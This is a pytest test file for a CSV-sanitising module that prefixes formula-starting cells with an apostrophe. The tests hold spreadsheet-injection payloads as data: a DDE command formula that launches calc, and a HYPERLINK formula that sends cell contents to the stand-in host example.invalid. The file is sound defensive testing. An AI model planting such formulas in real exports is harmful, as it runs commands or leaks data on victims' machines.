"""Safe CSV (geo.csvsafe) and every CSV writer of the command line and the app."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from geo import csvsafe
from geo.csvsafe import neutralise_cell, neutralise_csv_text, neutralise_frame, to_safe_csv

#: Cells a spreadsheet would run, and what the safe CSV must hold instead.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1",
    "-1",
    "@x",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_an_apostrophe(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", [-1, -1.5, 2, 0.0, None, True, "Bishkek", "", "a=b", " x",
                                   "'=already"])
def test_other_values_are_left_alone(value):
    assert neutralise_cell(value) is value


def test_to_safe_csv_neutralises_text_and_keeps_numbers():
    df = pd.DataFrame({
        "name": HOSTILE,
        "value": [-1.5, -1, 2, 3, 4, 5, 6],
        "mixed": ["=1", -2, None, "ok", "-", 7.5, "@"],
    })
    back = pd.read_csv(io.StringIO(to_safe_csv(df)), keep_default_na=False)
    assert back["name"].tolist() == ["'" + c for c in HOSTILE]
    assert back["value"].tolist() == [-1.5, -1, 2, 3, 4, 5, 6]
    rows = list(csv.reader(io.StringIO(to_safe_csv(df))))
    assert [r[2] for r in rows[1:]] == ["'=1", "-2", "", "ok", "'-", "7.5", "'@"]
    # the frame itself is not changed
    assert df["name"].tolist() == HOSTILE


def test_to_safe_csv_with_index_and_hostile_header():
    df = pd.DataFrame({"=SUM(A1)": ["x"]}, index=pd.Index(["-idx"], name="key"))
    rows = list(csv.reader(io.StringIO(to_safe_csv(df, index=True))))
    assert rows == [["key", "'=SUM(A1)"], ["'-idx", "x"]]


def test_neutralise_frame_handles_categories_and_string_dtype():
    df = pd.DataFrame({"c": pd.Categorical(["=a", "b"]), "s": pd.array(["@x", None],
                                                                       dtype="string")})
    out = neutralise_frame(df)
    assert out["c"].tolist() == ["'=a", "b"]
    assert out["s"].tolist()[0] == "'@x"


def test_csv_text_clean_file_is_returned_unchanged():
    text = "region,value,note\r\nKZ-31,-3.5,\"a, b\"\r\nKG-T,+2,x\r\n"
    assert neutralise_csv_text(text) is text


def test_csv_text_neutralises_formula_fields_only():
    text = 'a,b,c\n=cmd|\' /C calc\'!A0,-3.5,"=HYPERLINK(""u"",""v"")"\n-1 ,@x,+7\n'
    rows = list(csv.reader(io.StringIO(neutralise_csv_text(text))))
    assert rows == [["a", "b", "c"],
                    ["'=cmd|' /C calc'!A0", "-3.5", "'=HYPERLINK(\"u\",\"v\")"],
                    ["'-1 ", "'@x", "+7"]]


def test_every_start_character_is_covered():
    assert set(csvsafe.FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row():
    df = pd.DataFrame({"note": ["ok\r=cmd|' /C calc'!A0", "b"], "n": [1, 2]})
    text = to_safe_csv(df)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["note", "n"], ["ok\r=cmd|' /C calc'!A0", "1"], ["b", "2"]]
    assert '"ok\r=cmd' in text
    raw = "a,b\r\n\"x\r=1\",2\r\n@y,3\r\n"
    assert '"x\r=1"' in neutralise_csv_text(raw)
